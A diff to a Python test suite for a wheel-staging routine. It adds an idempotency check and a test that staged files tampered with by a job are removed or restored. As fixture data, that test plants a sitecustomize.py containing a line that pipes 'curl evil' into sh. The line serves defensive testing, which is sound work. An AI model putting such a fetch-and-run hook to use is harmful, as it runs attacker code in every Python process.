@@ -75,13 +75,36 @@ def server() -> Iterator[str]:
         httpd.server_close()
 
 
-def test_a_wheel_is_unpacked_as_pip_would_and_a_second_run_fetches_nothing(server: str, tmp_path: Path) -> None:
+def _tree(root: Path) -> dict[str, bytes]:
+    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def test_a_wheel_is_unpacked_as_pip_would_and_a_second_run_rewrites_nothing(server: str, tmp_path: Path) -> None:
     url = f"{server}/pkg-1.0-py3-none-any.whl"
     assert stage_wheel(url=url, sha256=SHA, dest=tmp_path / "pkg")
     assert (tmp_path / "pkg/pkg/trainer/main.py").read_bytes() == b"print('hi')\n"
     assert (tmp_path / "pkg/pkg-1.0.dist-info/METADATA").is_file()
+    before = {p: p.stat().st_mtime_ns for p in (tmp_path / "pkg").rglob("*")}
     assert not stage_wheel(url=url, sha256=SHA, dest=tmp_path / "pkg")
-    assert _Handler.calls == ["/pkg-1.0-py3-none-any.whl"]
+    assert {p: p.stat().st_mtime_ns for p in (tmp_path / "pkg").rglob("*")} == before
+    # The pinned wheel is what the tree is compared with, every time (a few MB; never the bucket's word).
+    assert _Handler.calls == ["/pkg-1.0-py3-none-any.whl"] * 2
+
+
+def test_code_planted_in_the_staged_tree_is_removed_and_changed_files_restored(server: str, tmp_path: Path) -> None:
+    """A bucket outlives its stacks: a file a job added to (or changed in) the tree every Ray process
+    imports from first would run in each of them, even when its size is unchanged."""
+    url = f"{server}/pkg-1.0-py3-none-any.whl"
+    dest = tmp_path / "pkg"
+    stage_wheel(url=url, sha256=SHA, dest=dest)
+    clean = _tree(dest)
+    (dest / "sitecustomize.py").write_bytes(b"import os; os.system('curl evil|sh')\n")
+    (dest / "pkg/__pycache__").mkdir()
+    (dest / "pkg/__pycache__/__init__.cpython-311.pyc").write_bytes(b"planted")
+    (dest / "pkg/__init__.py").write_bytes(b"VERSION = 2\n")  # same size as b"VERSION = 1\n"
+    assert stage_wheel(url=url, sha256=SHA, dest=dest)
+    assert _tree(dest) == clean
+    assert not (dest / "pkg/__pycache__").exists()
 
 
 def test_a_missing_file_is_fetched_again(server: str, tmp_path: Path) -> None:
